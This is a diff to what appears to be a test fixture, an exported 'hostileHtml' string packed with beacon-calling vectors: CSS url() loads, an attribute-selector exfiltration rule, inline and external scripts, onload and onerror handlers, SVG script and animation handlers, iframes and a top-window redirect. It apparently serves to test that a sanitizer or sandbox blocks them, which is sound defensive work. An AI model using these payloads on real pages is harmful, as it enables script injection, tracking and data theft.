@@ -13,13 +13,14 @@ export const hostileHtml = `<!doctype html><html><head>
 @font-face{font-family:x;src:url("${beacon}/font.woff2")}
 body{background:url("${beacon}/css-background.png");font-family:x}
 input[value^="a"]{background:url("${beacon}/css-exfiltration-a")}
-#a{list-style:url("${beacon}/list");cursor:url("${beacon}/cursor"),auto;content:url("${beacon}/content")}
+#a{list-style:url("${beacon}/list");cursor:url("${beacon}/cursor"),auto}
+#b{content:url("${beacon}/content")}
 p::before{content:url("${beacon}/before")}
 </style>
 <script>document.title='ran';fetch('${beacon}/script');parent.postMessage('ran','*');top.location='${beacon}/top'</script>
 <script src="${beacon}/external.js"></script><script type="module" src="${beacon}/module.js"></script>
 </head><body onload="document.title='ran';fetch('${beacon}/onload')" background="${beacon}/body-background">
-<p id="a">A harmless first line.</p>
+<p id="b">replaced</p><p id="a">A harmless first line.</p>
 <img src="${beacon}/img.png" srcset="${beacon}/srcset.png 2x" onerror="fetch('${beacon}/onerror')" alt="picture">
 <img src="x" onerror="document.title='ran';parent.document.title='ran'">
 <svg onload="document.title='ran'"><script>document.title='ran'</script><image href="${beacon}/svg-image"/><use href="${beacon}/use.svg#x"/><animate onbegin="document.title='ran'" attributeName="x" dur="1s"/><foreignObject><iframe src="${beacon}/svg-frame"></iframe></foreignObject></svg>
